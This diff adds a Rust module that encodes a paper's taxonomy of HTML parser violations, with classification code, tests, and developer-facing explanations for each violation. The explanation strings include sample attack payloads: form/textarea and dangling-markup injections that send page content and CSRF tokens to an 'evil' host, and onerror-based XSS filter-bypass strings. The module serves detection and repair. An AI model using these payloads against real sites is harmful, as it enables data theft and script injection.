@@ -1,0 +1,504 @@
+//! The paper's violation taxonomy (§3.2, Table 1).
+//!
+//! Two *categories*: **Definition Violations** (the specification defines
+//! behaviour, but the parsing process contradicts it — no parser error state
+//! is involved) and **Parsing Errors** (the parser passes a named error
+//! state and recovers). Four *problem groups* name the security impact:
+//! Data Exfiltration (DE), Data Manipulation (DM), HTML Formatting (HF,
+//! enabling mXSS), and Filter Bypass (FB).
+//!
+//! The 14 violation families of Table 1 expand to the 20 concrete checks
+//! reported in the paper's Figure 8 (DM2 and DE3 and HF5 have sub-checks).
+
+use serde::{Deserialize, Serialize};
+use std::fmt;
+
+/// The paper's two violation categories (§3.2).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+pub enum ViolationCategory {
+    /// Specified behaviour contradicted by the parsing process; no parser
+    /// error state fires (§3.2.1).
+    DefinitionViolation,
+    /// The parser passes an error state and silently recovers (§3.2.2).
+    ParsingError,
+}
+
+/// The four problem groups (§3.2): what an attacker gains from the
+/// violation.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
+pub enum ProblemGroup {
+    /// Exfiltrate secret information (dangling markup and friends).
+    DataExfiltration,
+    /// Manipulate content (redirects, base URL hijacking, attribute
+    /// clobbering).
+    DataManipulation,
+    /// Markup re-arrangement that enables mutation XSS.
+    HtmlFormatting,
+    /// Bypass HTML filters and web application firewalls.
+    FilterBypass,
+}
+
+impl ProblemGroup {
+    pub const ALL: [ProblemGroup; 4] = [
+        ProblemGroup::DataExfiltration,
+        ProblemGroup::DataManipulation,
+        ProblemGroup::HtmlFormatting,
+        ProblemGroup::FilterBypass,
+    ];
+
+    /// Two-letter code used throughout the paper.
+    pub fn code(self) -> &'static str {
+        match self {
+            ProblemGroup::DataExfiltration => "DE",
+            ProblemGroup::DataManipulation => "DM",
+            ProblemGroup::HtmlFormatting => "HF",
+            ProblemGroup::FilterBypass => "FB",
+        }
+    }
+
+    /// Full name as used in Figure 10's legend.
+    pub fn name(self) -> &'static str {
+        match self {
+            ProblemGroup::DataExfiltration => "Data Exfiltration",
+            ProblemGroup::DataManipulation => "Data Manipulation",
+            ProblemGroup::HtmlFormatting => "HTML Formatting",
+            ProblemGroup::FilterBypass => "Filter Bypass",
+        }
+    }
+}
+
+impl fmt::Display for ProblemGroup {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.name())
+    }
+}
+
+/// Whether the paper's §4.4 analysis classifies a violation as fixable by a
+/// simple automated process.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+pub enum Fixability {
+    /// "Repairing these issues could be automated" — FB via
+    /// serialize/deserialize, DM3 via duplicate removal, DM1/DM2 via moving
+    /// elements into head.
+    Automatic,
+    /// Requires developer judgment (where should the URL point? which
+    /// section does the element belong to?).
+    Manual,
+}
+
+/// The 20 concrete checks of the study (Table 1 with sub-checks, ordered as
+/// in Figure 8's x-axis universe).
+#[derive(
+    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize,
+)]
+#[allow(non_camel_case_types)]
+pub enum ViolationKind {
+    /// Non-terminated `textarea` element.
+    DE1,
+    /// Non-terminated `select` / `option` elements.
+    DE2,
+    /// Non-terminated HTML: classic dangling markup — a URL attribute
+    /// containing both a newline and `<`.
+    DE3_1,
+    /// Non-terminated HTML: nonce stealing — `<script` inside an attribute
+    /// value.
+    DE3_2,
+    /// Non-terminated HTML: unclosed `target` attribute (newline inside).
+    DE3_3,
+    /// Nested `form` element (inner form ignored by the parser).
+    DE4,
+    /// `meta[http-equiv]` outside the head section.
+    DM1,
+    /// `base` element outside the head section.
+    DM2_1,
+    /// More than one `base` element per document.
+    DM2_2,
+    /// `base` element after an element that uses a URL.
+    DM2_3,
+    /// Multiple attributes with the same name on one element.
+    DM3,
+    /// Broken head section (missing head tags / foreign elements in head).
+    HF1,
+    /// Content before `body` (implicitly opened body).
+    HF2,
+    /// Multiple `body` elements (attributes merged).
+    HF3,
+    /// Broken `table` element (content foster-parented out).
+    HF4,
+    /// Wrong namespace: foreign-only elements parsed in the HTML namespace.
+    HF5_1,
+    /// Wrong namespace: breakout out of SVG content.
+    HF5_2,
+    /// Wrong namespace: breakout out of MathML content.
+    HF5_3,
+    /// Slash between attributes (`unexpected-solidus-in-tag`).
+    FB1,
+    /// Missing whitespace between attributes.
+    FB2,
+}
+
+impl ViolationKind {
+    /// All 20 checks, in taxonomy order.
+    pub const ALL: [ViolationKind; 20] = [
+        ViolationKind::DE1,
+        ViolationKind::DE2,
+        ViolationKind::DE3_1,
+        ViolationKind::DE3_2,
+        ViolationKind::DE3_3,
+        ViolationKind::DE4,
+        ViolationKind::DM1,
+        ViolationKind::DM2_1,
+        ViolationKind::DM2_2,
+        ViolationKind::DM2_3,
+        ViolationKind::DM3,
+        ViolationKind::HF1,
+        ViolationKind::HF2,
+        ViolationKind::HF3,
+        ViolationKind::HF4,
+        ViolationKind::HF5_1,
+        ViolationKind::HF5_2,
+        ViolationKind::HF5_3,
+        ViolationKind::FB1,
+        ViolationKind::FB2,
+    ];
+
+    /// The paper's identifier, e.g. `"DM2_3"`.
+    pub fn id(self) -> &'static str {
+        match self {
+            ViolationKind::DE1 => "DE1",
+            ViolationKind::DE2 => "DE2",
+            ViolationKind::DE3_1 => "DE3_1",
+            ViolationKind::DE3_2 => "DE3_2",
+            ViolationKind::DE3_3 => "DE3_3",
+            ViolationKind::DE4 => "DE4",
+            ViolationKind::DM1 => "DM1",
+            ViolationKind::DM2_1 => "DM2_1",
+            ViolationKind::DM2_2 => "DM2_2",
+            ViolationKind::DM2_3 => "DM2_3",
+            ViolationKind::DM3 => "DM3",
+            ViolationKind::HF1 => "HF1",
+            ViolationKind::HF2 => "HF2",
+            ViolationKind::HF3 => "HF3",
+            ViolationKind::HF4 => "HF4",
+            ViolationKind::HF5_1 => "HF5_1",
+            ViolationKind::HF5_2 => "HF5_2",
+            ViolationKind::HF5_3 => "HF5_3",
+            ViolationKind::FB1 => "FB1",
+            ViolationKind::FB2 => "FB2",
+        }
+    }
+
+    /// Parse a paper identifier back into a kind.
+    pub fn from_id(id: &str) -> Option<ViolationKind> {
+        ViolationKind::ALL.iter().copied().find(|k| k.id() == id)
+    }
+
+    /// Table 1's one-line definition.
+    pub fn definition(self) -> &'static str {
+        match self {
+            ViolationKind::DE1 => "Non-terminated textarea element",
+            ViolationKind::DE2 => "Non-terminated select and option elements",
+            ViolationKind::DE3_1 => "Non-terminated HTML (dangling markup URL)",
+            ViolationKind::DE3_2 => "Non-terminated HTML (nonce stealing)",
+            ViolationKind::DE3_3 => "Non-terminated HTML (unclosed target attribute)",
+            ViolationKind::DE4 => "Nested form element",
+            ViolationKind::DM1 => "Meta tag outside head",
+            ViolationKind::DM2_1 => "Base tag outside head",
+            ViolationKind::DM2_2 => "Multiple base tags",
+            ViolationKind::DM2_3 => "Base tag after URL-using element",
+            ViolationKind::DM3 => "Multiple same attributes",
+            ViolationKind::HF1 => "Broken head section",
+            ViolationKind::HF2 => "Content before body",
+            ViolationKind::HF3 => "Multiple body elements",
+            ViolationKind::HF4 => "Broken table element",
+            ViolationKind::HF5_1 => "Wrong namespace (foreign element in HTML)",
+            ViolationKind::HF5_2 => "Wrong namespace (breakout from SVG)",
+            ViolationKind::HF5_3 => "Wrong namespace (breakout from MathML)",
+            ViolationKind::FB1 => "Slashes between attributes",
+            ViolationKind::FB2 => "Missing space between attributes",
+        }
+    }
+
+    pub fn group(self) -> ProblemGroup {
+        match self {
+            ViolationKind::DE1
+            | ViolationKind::DE2
+            | ViolationKind::DE3_1
+            | ViolationKind::DE3_2
+            | ViolationKind::DE3_3
+            | ViolationKind::DE4 => ProblemGroup::DataExfiltration,
+            ViolationKind::DM1
+            | ViolationKind::DM2_1
+            | ViolationKind::DM2_2
+            | ViolationKind::DM2_3
+            | ViolationKind::DM3 => ProblemGroup::DataManipulation,
+            ViolationKind::HF1
+            | ViolationKind::HF2
+            | ViolationKind::HF3
+            | ViolationKind::HF4
+            | ViolationKind::HF5_1
+            | ViolationKind::HF5_2
+            | ViolationKind::HF5_3 => ProblemGroup::HtmlFormatting,
+            ViolationKind::FB1 | ViolationKind::FB2 => ProblemGroup::FilterBypass,
+        }
+    }
+
+    /// §3.2's categorization: DE1/DE2 and the DM/HF tag-placement families
+    /// are Definition Violations; the attribute/parsing anomalies are
+    /// Parsing Errors.
+    pub fn category(self) -> ViolationCategory {
+        match self {
+            ViolationKind::DE1
+            | ViolationKind::DE2
+            | ViolationKind::DM1
+            | ViolationKind::DM2_1
+            | ViolationKind::DM2_2
+            | ViolationKind::DM2_3
+            | ViolationKind::HF1
+            | ViolationKind::HF2 => ViolationCategory::DefinitionViolation,
+            ViolationKind::DE3_1
+            | ViolationKind::DE3_2
+            | ViolationKind::DE3_3
+            | ViolationKind::DE4
+            | ViolationKind::DM3
+            | ViolationKind::HF3
+            | ViolationKind::HF4
+            | ViolationKind::HF5_1
+            | ViolationKind::HF5_2
+            | ViolationKind::HF5_3
+            | ViolationKind::FB1
+            | ViolationKind::FB2 => ViolationCategory::ParsingError,
+        }
+    }
+
+    /// §4.4's auto-fixability classification.
+    pub fn fixability(self) -> Fixability {
+        match self.group() {
+            ProblemGroup::FilterBypass | ProblemGroup::DataManipulation => Fixability::Automatic,
+            ProblemGroup::DataExfiltration | ProblemGroup::HtmlFormatting => Fixability::Manual,
+        }
+    }
+
+    /// The Table-1 family this check belongs to (e.g. DM2_3 → "DM2").
+    pub fn family(self) -> &'static str {
+        let id = self.id();
+        match id.find('_') {
+            Some(i) => &id[..i],
+            None => id,
+        }
+    }
+}
+
+impl fmt::Display for ViolationKind {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.id())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn twenty_checks_total() {
+        assert_eq!(ViolationKind::ALL.len(), 20);
+    }
+
+    #[test]
+    fn table1_has_fourteen_families() {
+        let mut families: Vec<&str> = ViolationKind::ALL.iter().map(|k| k.family()).collect();
+        families.dedup();
+        families.sort_unstable();
+        families.dedup();
+        assert_eq!(families.len(), 14);
+    }
+
+    #[test]
+    fn ids_roundtrip() {
+        for k in ViolationKind::ALL {
+            assert_eq!(ViolationKind::from_id(k.id()), Some(k));
+        }
+        assert_eq!(ViolationKind::from_id("nope"), None);
+    }
+
+    #[test]
+    fn groups_match_prefixes() {
+        for k in ViolationKind::ALL {
+            assert!(k.id().starts_with(k.group().code()));
+        }
+    }
+
+    #[test]
+    fn fb_and_dm_are_automatic() {
+        assert_eq!(ViolationKind::FB1.fixability(), Fixability::Automatic);
+        assert_eq!(ViolationKind::FB2.fixability(), Fixability::Automatic);
+        assert_eq!(ViolationKind::DM3.fixability(), Fixability::Automatic);
+        assert_eq!(ViolationKind::DM2_1.fixability(), Fixability::Automatic);
+        assert_eq!(ViolationKind::HF4.fixability(), Fixability::Manual);
+        assert_eq!(ViolationKind::DE1.fixability(), Fixability::Manual);
+    }
+
+    #[test]
+    fn categories_split_as_in_section_3_2() {
+        assert_eq!(ViolationKind::DE1.category(), ViolationCategory::DefinitionViolation);
+        assert_eq!(ViolationKind::DM1.category(), ViolationCategory::DefinitionViolation);
+        assert_eq!(ViolationKind::HF1.category(), ViolationCategory::DefinitionViolation);
+        assert_eq!(ViolationKind::FB1.category(), ViolationCategory::ParsingError);
+        assert_eq!(ViolationKind::DM3.category(), ViolationCategory::ParsingError);
+        assert_eq!(ViolationKind::DE3_1.category(), ViolationCategory::ParsingError);
+    }
+
+    #[test]
+    fn serde_roundtrip() {
+        let json = serde_json::to_string(&ViolationKind::DM2_3).unwrap();
+        let back: ViolationKind = serde_json::from_str(&json).unwrap();
+        assert_eq!(back, ViolationKind::DM2_3);
+    }
+}
+
+impl ViolationKind {
+    /// A developer-facing explanation: the parser behaviour, the attack it
+    /// enables, and how to fix the markup — the succinct, specific console
+    /// warning §5.3.2 calls for.
+    pub fn explanation(self) -> Explanation {
+        use ViolationKind::*;
+        match self {
+            DE1 => Explanation {
+                behaviour: "The parser closes an unterminated <textarea> only at the end of the file, absorbing everything after it as text.",
+                attack: "An injected <form action=evil><input type=submit><textarea> exfiltrates all following page content (CSRF tokens included) when the victim submits.",
+                fix: "Close every <textarea> explicitly; never emit one from string concatenation.",
+            },
+            DE2 => Explanation {
+                behaviour: "An unterminated <select>/<option> swallows following content; inner tags are dropped but their text is kept.",
+                attack: "Injected <select><option> leaks following plain text into an attacker-readable form value.",
+                fix: "Close <select> and <option> explicitly.",
+            },
+            DE3_1 => Explanation {
+                behaviour: "A URL attribute containing a raw newline and '<' is the signature of a non-terminated attribute that swallowed markup.",
+                attack: "Classic dangling markup: <img src='http://evil/?= absorbs the page up to the next quote and ships it cross-origin. Chromium blocks such URLs since 2017.",
+                fix: "Find the unterminated quote; URL-encode any legitimate newline.",
+            },
+            DE3_2 => Explanation {
+                behaviour: "The string '<script' inside an attribute value means an attribute absorbed a script element.",
+                attack: "Nonce stealing: the absorbed <script nonce=…> donates its CSP nonce to the attacker's element.",
+                fix: "Terminate the attribute; if '<script' is intentional (srcdoc, templates), HTML-encode it.",
+            },
+            DE3_3 => Explanation {
+                behaviour: "A target attribute with a raw newline indicates a non-terminated attribute absorbing markup.",
+                attack: "Window names persist cross-origin: navigating leaks the absorbed content via window.name.",
+                fix: "Terminate the attribute; target values never legitimately contain newlines.",
+            },
+            DE4 => Explanation {
+                behaviour: "The parser silently ignores a <form> start tag while another form is open (the form element pointer).",
+                attack: "An injected form BEFORE the real one captures its fields and submits them to the attacker's action URL.",
+                fix: "Close every form; remove copy-pasted duplicate form openings.",
+            },
+            DM1 => Explanation {
+                behaviour: "meta[http-equiv] is only defined for <head>, but the parser honours it anywhere.",
+                attack: "An injected meta refresh in the body redirects the user; some engines even process CSP-relevant directives.",
+                fix: "Move the meta into <head>; the automatic fixer does this safely.",
+            },
+            DM2_1 => Explanation {
+                behaviour: "<base> outside <head> is still honoured by the parser.",
+                attack: "An injected base href retargets every relative URL — scripts load from the attacker's server (CVE-2020-29653).",
+                fix: "Move the base into <head> (automatic).",
+            },
+            DM2_2 => Explanation {
+                behaviour: "Only the first <base> counts; extra ones are dead markup.",
+                attack: "An injected base BEFORE the legitimate one silently wins.",
+                fix: "Keep exactly one base element (automatic: duplicates dropped).",
+            },
+            DM2_3 => Explanation {
+                behaviour: "<base> must precede every URL-using element; later ones leave earlier URLs resolved against a different base.",
+                attack: "Split-base confusion: the same relative URL resolves differently before and after the base.",
+                fix: "Move the base to the top of <head> (automatic).",
+            },
+            DM3 => Explanation {
+                behaviour: "Duplicate attribute names raise a parse error; every occurrence after the first is discarded.",
+                attack: "Injecting an attribute early invalidates the legitimate one that follows — event handlers, classes, ids.",
+                fix: "Deduplicate attributes (automatic: the parser already ignores the extras).",
+            },
+            HF1 => Explanation {
+                behaviour: "A non-head element inside <head> closes the head early; everything after moves into the body.",
+                attack: "Injected head content invalidates CSP meta tags and other metadata by relocating them.",
+                fix: "Keep only metadata content in <head>; write the head/body tags explicitly.",
+            },
+            HF2 => Explanation {
+                behaviour: "Content after </head> implies <body>, and a later real body tag merely merges.",
+                attack: "A dangling tag before <body> can absorb the body tag and its security-relevant attributes (onload checks).",
+                fix: "Open <body> explicitly before any content.",
+            },
+            HF3 => Explanation {
+                behaviour: "A second <body> tag is merged: its new attributes are added, conflicting ones ignored.",
+                attack: "Injections before/after the real body add or block body attributes (event handlers).",
+                fix: "Emit exactly one body tag.",
+            },
+            HF4 => Explanation {
+                behaviour: "Content not allowed in a table is foster-parented in FRONT of the table.",
+                attack: "The reordering mutates markup between parses — a core mXSS gadget (the DOMPurify bypass's table hop).",
+                fix: "Only table structure inside <table>; use CSS for layout.",
+            },
+            HF5_1 => Explanation {
+                behaviour: "SVG/MathML-only elements parsed in the HTML namespace (fragment pasted without its root).",
+                attack: "Namespace confusion feeds mXSS chains and breaks sanitizer assumptions.",
+                fix: "Wrap SVG fragments in <svg>, MathML in <math>.",
+            },
+            HF5_2 => Explanation {
+                behaviour: "An HTML breakout element inside <svg> pops all foreign elements.",
+                attack: "Content visually 'inside' the SVG is actually outside it in the DOM — mutation gadget.",
+                fix: "Keep HTML out of SVG except via <foreignObject>.",
+            },
+            HF5_3 => Explanation {
+                behaviour: "An HTML breakout element inside <math> pops the MathML context.",
+                attack: "The Figure-1 DOMPurify bypass: <style> is markup-transparent in MathML, so comments re-arm payloads.",
+                fix: "Keep HTML out of MathML; sanitizers should drop math content outright.",
+            },
+            FB1 => Explanation {
+                behaviour: "A '/' between attributes raises unexpected-solidus-in-tag and is treated as whitespace.",
+                attack: "<img/src=x/onerror=alert(1)> bypasses filters that block spaces.",
+                fix: "Use spaces between attributes (automatic via reserialization).",
+            },
+            FB2 => Explanation {
+                behaviour: "Missing whitespace between attributes raises a parse error; the parser inserts the separator.",
+                attack: "<img src=\"x\"onerror=alert(1)> bypasses space-blocking filters — the most common violation on the web.",
+                fix: "Separate attributes with spaces (automatic via reserialization).",
+            },
+        }
+    }
+}
+
+/// Developer-facing explanation of a violation: behaviour, attack, fix.
+#[derive(Debug, Clone, Copy)]
+pub struct Explanation {
+    /// What the error-tolerant parser does.
+    pub behaviour: &'static str,
+    /// The attack the tolerance enables.
+    pub attack: &'static str,
+    /// How a developer repairs the markup.
+    pub fix: &'static str,
+}
+
+#[cfg(test)]
+mod explanation_tests {
+    use super::*;
+
+    #[test]
+    fn every_kind_has_substantive_explanation() {
+        for kind in ViolationKind::ALL {
+            let e = kind.explanation();
+            assert!(e.behaviour.len() > 40, "{kind} behaviour too thin");
+            assert!(e.attack.len() > 30, "{kind} attack too thin");
+            assert!(e.fix.len() > 15, "{kind} fix too thin");
+        }
+    }
+
+    #[test]
+    fn automatic_kinds_say_so() {
+        for kind in ViolationKind::ALL {
+            if kind.fixability() == Fixability::Automatic {
+                let fix = kind.explanation().fix.to_ascii_lowercase();
+                assert!(fix.contains("automatic"), "{kind} fix text must mention automation");
+            }
+        }
+    }
+}
